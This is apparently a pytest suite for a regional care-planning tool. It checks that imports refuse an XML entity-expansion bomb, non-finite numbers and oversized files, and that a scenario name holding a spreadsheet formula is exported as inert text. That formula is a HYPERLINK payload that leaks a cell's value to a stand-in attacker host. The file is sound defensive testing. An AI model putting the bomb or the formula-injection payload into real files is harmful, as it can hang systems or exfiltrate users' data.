"""Files made to poison or hang an import, and names made to run in a spreadsheet: refused
with the place, read whole, or written inert."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import pytest
from openpyxl import Workbook, load_workbook

from planning.io import readers
from planning.io.exports import plan_csv_zip, plan_workbook
from planning.io.imports import import_table
from planning.io.problems import MAX_PROBLEMS
from planning.io.templates import template_xlsx

HEADER = "ATVK kods,Mērķa grupa,Aprūpes līmenis,Pakalpojums,Skaits\n"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Atvērt")'


def needs_csv(rows: list[str]) -> bytes:
    return (HEADER + "\n".join(rows) + "\n").encode()


def needs_xlsx(rows: int) -> bytes:
    book = Workbook()
    ws = book.active
    ws.append(["ATVK kods", "Mērķa grupa", "Aprūpes līmenis", "Pakalpojums", "Skaits"])
    services = ["group_home", "day_care_adults", "specialised_workshop", "support_home_adults"]
    for i in range(rows):
        ws.append(["0005000", "adults_grt", "I", services[i % 4], i + 1]
                  if i < 4 else ["0005000", "adults_grt", ["II", "III", "IV"][i % 3],
                                 services[i % 4], 1])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_part(data: bytes, part: str, change) -> bytes:
    """The XLSX ``data`` with one XML part rewritten by ``change(text) -> text``."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item)
            if item.filename == part:
                body = change(body.decode()).encode()
            dst.writestr(item, body)
    return out.getvalue()


# ---------------------------------------------------------------- a stale <dimension> tag
def test_an_xlsx_with_a_stale_dimension_tag_is_read_to_its_last_row() -> None:
    data = needs_xlsx(12)
    stale = rewrite_part(data, "xl/worksheets/sheet1.xml",
                         lambda x: re.sub(r'<dimension ref="[^"]*" ?/>',
                                          '<dimension ref="A1:E5"/>', x))
    assert b'ref="A1:E5"' in zipfile.ZipFile(io.BytesIO(stale)).read("xl/worksheets/sheet1.xml")
    raw = readers.read_table(stale, "needs.xlsx")
    assert len(raw.rows) == 12 and raw.row_numbers[-1] == 13


# ---------------------------------------------------------------- entity expansion
BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollol">'
        + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
                  for i in range(1, 10))
        + ']>')


def _body(xml: str) -> str:
    """The XML without its declaration (the bomb brings its own)."""
    return xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml


def test_an_entity_expansion_xlsx_is_refused_naming_the_file_and_the_reason(kurzeme) -> None:
    data = template_xlsx("needs", "lv")

    def bomb(xml: str) -> str:  # the bomb goes off where a cell text or sheet name is read
        return BOMB + _body(xml).replace("<t>", "<t>&lol9;", 1).replace(
            '<sheet name="', '<sheet name="&lol9;', 1)

    for part in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
        with pytest.raises(readers.ImportRejected) as info:
            import_table(rewrite_part(data, part, bomb), "bomb.xlsx", "needs", inputs=kurzeme)
        problem = info.value.problems[0]
        assert problem.file == "bomb.xlsx"
        assert "declares entities" in problem.message or "not a readable" in problem.message


def test_the_cli_names_the_file_of_an_entity_expansion(tmp_path) -> None:
    from click.testing import CliRunner

    from planning.cli.io import import_group

    path = tmp_path / "bomb.xlsx"
    path.write_bytes(rewrite_part(template_xlsx("needs", "lv"), "xl/workbook.xml",
                                  lambda x: BOMB + _body(x).replace(
                                      '<sheet name="', '<sheet name="&lol9;', 1)))
    result = CliRunner().invoke(import_group, ["table", "needs", str(path), "--region",
                                               "Kurzeme"])
    assert result.exit_code == 1, result.output
    assert "bomb.xlsx" in result.output and "Traceback" not in result.output


# ---------------------------------------------------------------- numbers that poison a plan
@pytest.mark.parametrize("count, reason", [
    ("nan", "not a finite number"), ("inf", "not a finite number"),
    ("1e308", "too large; at most 100 000"), ("1e30", "too large; at most 100 000"),
])
def test_a_count_that_is_not_finite_or_absurd_is_refused_with_its_place(refused, count,
                                                                         reason) -> None:
    err = refused(needs_csv([f"0005000,adults_grt,I,group_home,{count}"]), "needs.csv")
    p = err.problems[0]
    assert (p.file, p.row, p.column, p.value) == ("needs.csv", 2, "Skaits", count)
    assert p.message.startswith(reason)


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e308"])
def test_a_norm_that_is_not_finite_or_absurd_is_refused(refused, value) -> None:
    data = ("Pakalpojums,Normatīvs,Vērtība\n"
            f"group_home,investment_per_place,{value}\n").encode()
    err = refused(data, "norms.csv", kind="norms")
    assert err.problems[0].row == 2 and err.problems[0].column == "Vērtība"


def test_a_norm_above_its_own_bound_is_refused(refused) -> None:
    data = "Pakalpojums,Normatīvs,Vērtība\ngroup_home,days_per_year,4000\n".encode()
    err = refused(data, "norms.csv", kind="norms")
    assert "group_home: too large; at most 366" in str(err)


# ---------------------------------------------------------------- large files
def test_a_file_with_too_many_rows_stops_early_with_a_clear_refusal(refused,
                                                                    monkeypatch) -> None:
    monkeypatch.setattr(readers, "MAX_ROWS", 50)
    err = refused(needs_csv(["0005000,adults_grt,I,group_home,1"] * 60), "big.csv")
    assert "more than 50 rows with data" in str(err) and err.problems[0].row == 52
    err = refused(needs_xlsx(60), "big.xlsx")
    assert "more than 50 rows with data" in str(err)


def test_checking_stops_after_the_first_problems_and_says_where(refused) -> None:
    err = refused(needs_csv(["0005000,adults_grt,I,group_home,-1"] * 1000), "bad.csv")
    assert len(err.problems) == MAX_PROBLEMS
    assert err.stopped_at_row == MAX_PROBLEMS + 1
    assert f"{MAX_PROBLEMS} problems in the rows up to row {MAX_PROBLEMS + 1}; checking " \
        "stopped there" in str(err)


# ---------------------------------------------------------------- formula injection
def test_a_scenario_name_is_never_a_formula_in_the_plan_workbook_or_csv(tight_plan) -> None:
    plan = replace(tight_plan, metadata=replace(tight_plan.metadata, scenario=HYPERLINK))
    book = load_workbook(io.BytesIO(plan_workbook(plan, lang="en")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the name is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    assert HYPERLINK in [c.value for c in cells]
    zf = zipfile.ZipFile(io.BytesIO(plan_csv_zip(plan, lang="en")))
    text = zf.read("scenario.csv").decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.M)
